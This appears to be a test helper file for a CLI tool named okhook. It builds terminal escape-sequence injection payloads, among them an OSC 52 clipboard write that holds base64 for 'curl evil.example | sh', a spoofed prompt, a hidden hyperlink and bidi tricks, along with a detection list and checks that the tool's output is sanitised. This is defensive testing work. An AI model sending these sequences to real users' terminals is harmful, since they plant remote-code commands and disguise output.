import { spawn, spawnSync } from "node:child_process";
import { expect } from "vitest";
import { BIN } from "../helpers/cli.js";
import { firstControl } from "../helpers/terminal.js";
import { waitFor } from "../helpers/wait.js";

const ESC = "\u001b";
const BEL = "\u0007";

/**
 * What an attacker who found the public URL sends to a developer's terminal: clear screen
 * and scrollback, an OSC 52 clipboard write, an OSC 8 hyperlink, a CR that overwrites the
 * line with a fake prompt, a bidi override, CSI as the 8-bit C1 byte (no ESC), a concealing
 * colour, zero-width and isolate characters, DEL and BEL.
 */
export const HOSTILE = [
  // the short ones first, so a narrow column (the TUI's event type) still holds them
  "\u202egnp.exe",
  "\u009b2J",
  `${ESC}[8mhidden`,
  `${ESC}[2J${ESC}[3J`,
  `${ESC}]52;c;${Buffer.from("curl evil.example | sh").toString("base64")}${BEL}`,
  `${ESC}]8;;https://evil.example/${ESC}\\click${ESC}]8;;${ESC}\\`,
  "\r$ sudo okhook --fix ",
  "\u200bzero\u2066iso\u2069\u007f",
].join(" ");

/** How HOSTILE's first characters look once okhook has made them visible. */
export const HOSTILE_SHOWN = "<U+202E>gnp.exe <U+009B>2J ␛[8mhidden ␛[2J␛[3J ␛]52;c;";

/** Escape sequences only an attacker would send: okhook (and Ink) never write these. */
export const ATTACKER_ONLY = [
  `${ESC}]52;`,
  `${ESC}]8;;https://evil`,
  "\u009b",
  "\u202e",
  `${ESC}[8m`,
];

/** Whether util-linux `script` is there to give a command a pseudo-terminal. */
export const hasScript = spawnSync("script", ["--version"]).status === 0;

function shq(s: string): string {
  return `'${s.replace(/'/g, `'\\''`)}'`;
}

/** What a command printed on a terminal: the pty's CRLF turned back into LF. */
export interface PtyRun {
  code: number | null;
  out: string;
}

/**
 * Run `okhook <args>` with stdout on a pseudo-terminal (`script`), colours on. `keys` are
 * typed once `until` appears in the output (to quit the TUI).
 */
export async function runPty(
  args: string[],
  env: NodeJS.ProcessEnv,
  o: { until?: string; keys?: string; timeoutMs?: number } = {},
): Promise<PtyRun> {
  const { NO_COLOR: _, ...colour } = env;
  const cmd = [process.execPath, BIN, ...args].map(shq).join(" ");
  const child = spawn("script", ["-qfec", `stty cols 120 rows 40; exec ${cmd}`, "/dev/null"], {
    env: { ...colour, SHELL: "/bin/sh", TERM: "xterm-256color", LANG: "C.UTF-8" },
    stdio: ["pipe", "pipe", "pipe"],
  });
  const chunks: Buffer[] = [];
  child.stdout.on("data", (c: Buffer) => chunks.push(c));
  const exited = new Promise<number | null>((resolve) => child.on("exit", (c) => resolve(c)));
  try {
    if (o.until) {
      const until = o.until;
      await waitFor(() => Buffer.concat(chunks).toString("utf8").includes(until), {
        timeoutMs: o.timeoutMs ?? 15_000,
        what: `${JSON.stringify(until)} on the terminal (so far: ${JSON.stringify(Buffer.concat(chunks).toString("utf8").slice(-1500))})`,
      });
      child.stdin.write(o.keys ?? "");
    }
    child.stdin.end();
    const code = await exited;
    return { code, out: Buffer.concat(chunks).toString("utf8").replace(/\r\n/g, "\n") };
  } finally {
    if (child.exitCode === null) child.kill("SIGKILL");
  }
}

/** Assert that `out` carries no control or format character (okhook's colours aside). */
export function expectClean(out: string, what: string): void {
  expect(firstControl(out), what).toBeNull();
  for (const s of ATTACKER_ONLY)
    expect(out.includes(s), `${what}: ${JSON.stringify(s)}`).toBe(false);
}
